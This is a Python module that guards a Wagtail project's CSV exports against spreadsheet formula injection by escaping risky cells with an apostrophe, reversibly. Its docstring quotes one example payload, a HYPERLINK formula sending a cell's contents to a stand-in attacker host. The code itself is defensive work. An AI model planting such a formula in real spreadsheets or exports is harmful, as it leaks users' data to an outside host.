"""Spreadsheet exports that can't run formulas.

Reports export text that reps and marketers typed (objection wording, titles,
comments). A cell that starts with ``=``, ``+``, ``-``, ``@`` or a tab/carriage return
is read as a formula by Excel, LibreOffice and Google Sheets ("CSV injection"):
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` in an objection would become a
link that leaks the row. Spreadsheets with East Asian input methods turn the fullwidth
forms ``＝ ＋ － ＠`` into formulas too. Wagtail's XLSX export already stores such cells
as text; its CSV export writes them as they are. ``FormulaSafeExportMixin`` prefixes
them with an apostrophe, the escape spreadsheets recognise (OWASP's advice), and
leaves numbers and dates alone. Times go to CSV as ISO 8601 in UTC
(``2026-12-01T13:09:13+00:00``), not Python's ``str()``.

The escape is reversible, for files that are read back (the glossary CSV):
:func:`restore` removes exactly the apostrophe :func:`neutralise` added. A value that
already starts with an apostrophe followed by a formula character gets one more, so
``restore(neutralise(value)) == value`` for every string.
"""

import datetime

from django.utils import timezone

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ESCAPE = "'"


def _needs_escape(value):
    return value.startswith(FORMULA_STARTS) or (
        value.startswith(ESCAPE) and value.lstrip(ESCAPE).startswith(FORMULA_STARTS)
    )


def neutralise(value):
    """``value`` made safe for a spreadsheet cell (strings only)."""
    if isinstance(value, str) and _needs_escape(value):
        return f"{ESCAPE}{value}"
    return value


def restore(value):
    """The value :func:`neutralise` was given (for cells read back from an export)."""
    if isinstance(value, str) and value.startswith(ESCAPE) and _needs_escape(value[1:]):
        return value[1:]
    return value


def iso_utc(value):
    """An aware or naive (UTC) datetime as ISO 8601 in UTC, to the second."""
    if timezone.is_naive(value):
        value = timezone.make_aware(value, datetime.UTC)
    return value.astimezone(datetime.UTC).isoformat(timespec="seconds")


class FormulaSafeExportMixin:
    """Put before Wagtail's ``ReportView``/``IndexView`` in the bases of a view with
    ``list_export``."""

    def get_preprocess_function(self, field, value, export_format):
        if export_format == self.FORMAT_CSV and isinstance(value, datetime.datetime):
            return iso_utc
        return super().get_preprocess_function(field, value, export_format)

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
